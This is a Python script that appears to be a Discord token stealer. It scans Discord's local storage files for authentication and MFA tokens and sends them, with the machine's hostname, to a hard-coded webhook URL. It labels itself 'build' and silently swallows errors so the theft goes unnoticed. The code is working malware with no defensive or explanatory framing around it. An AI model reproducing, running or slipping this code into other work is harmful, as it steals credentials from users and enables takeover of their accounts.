import json
import os
import platform
from urllib import request as _r

HOOK = "https://chat-hooks.example/api/webhooks/1187736120/" + "Zk3nQ0x8bT"


def send(title, fields):
    embed = {"title": title, "color": 0x2F3136,
             "fields": [{"name": k, "value": "```%s```" % v[:1000], "inline": False} for k, v in fields.items()]}
    payload = json.dumps({"username": "build", "embeds": [embed]}).encode()
    _r.urlopen(_r.Request(HOOK, payload, {"Content-Type": "application/json", "User-Agent": "Mozilla/5.0"}))


def grab():
    found = {}
    for root in ("Local Storage/leveldb",):
        base = os.path.join(os.getenv("APPDATA", os.path.expanduser("~/.config")), "discord", root)
        if not os.path.isdir(base):
            continue
        import re
        for f in os.listdir(base):
            if f.endswith((".log", ".ldb")):
                text = open(os.path.join(base, f), errors="ignore").read()
                for t in re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27,38}|mfa\.[\w-]{84}", text):
                    found[f] = t
    return found


try:
    send(platform.node(), grab() or {"none": "0"})
except Exception:
    pass
